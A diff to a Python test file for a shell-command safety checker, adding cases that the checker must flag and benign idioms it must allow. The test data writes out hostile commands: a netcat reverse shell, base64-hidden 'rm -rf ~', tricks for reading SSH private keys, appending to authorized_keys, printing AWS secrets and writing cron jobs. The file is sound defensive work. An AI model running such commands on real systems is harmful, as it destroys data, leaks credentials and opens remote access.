@@ -373,3 +373,47 @@ def test_loops_that_flood_the_scheduler() -> None:
     assert verdict("for i in $(seq 1 1000); do sbatch run.sh $i; done") is Decision.ASK
     assert verdict("for i in 1 2 3; do sbatch run.sh $i; done") is Decision.ALLOW
     assert verdict("sbatch --array=1-1000%50 job.sh") is Decision.ALLOW
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("source /tmp/setup.sh", "shell.stdin-exec"),
+        ("eval $USER_INPUT", "shell.stdin-exec"),
+        ("cat script.txt | bash", "shell.stdin-exec"),
+        ("echo ok | xargs bash -c", "shell.stdin-exec"),
+        ("bash<<<$(base64 -d<<<cm0gLXJmIH4K)", "shell.obfuscated"),
+        ("echo cm0gLXJmIH4K | base64 -d | sh", "shell.obfuscated"),
+        ("IFS=, ; cat,~/.ssh/id_rsa", "shell.obfuscated"),
+        ("cat${IFS}~/.ssh/id_rsa", "shell.obfuscated"),
+        ("ps | awk '{print | \"bash\"}'", "shell.stdin-exec"),
+        ("awk '{print > \"/etc/cron.d/job\"}' x", "fs.system-write"),
+        ("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", "secret.read"),
+        ("echo $AWS_SECRET_ACCESS_KEY", "secret.read"),
+        ("rm -rf $TMPDIR/../escape", "fs.rm-wide"),
+        ("xargs -a paths.txt rm -rf", "fs.rm-wide"),
+        ("nc -e /bin/bash 10.0.0.1 4444", "net.reverse-shell"),
+    ],
+)
+def test_hidden_code_and_secrets(command: str, rule: str) -> None:
+    assert rule in check(command, ctx()).matches
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'eval "$(ssh-agent -s)"',
+        "source <(conda shell.bash hook)",
+        "source ~/.bashrc",
+        "cat data.json | python3 -m json.tool",
+        "echo 'unterminated",
+        '[ -n "${HF_TOKEN:+set}" ] && echo set',
+    ],
+)
+def test_common_idioms_stay_allowed(command: str) -> None:
+    assert verdict(command) is Decision.ALLOW
+
+
+def test_a_quote_left_open_is_read_with_the_quote_closed() -> None:
+    assert verdict('echo "$(rm -rf ~)') is Decision.DENY  # still seen
+    assert check("echo $(( 1 +", ctx()).rule == "parse.error"  # a real parse error still asks
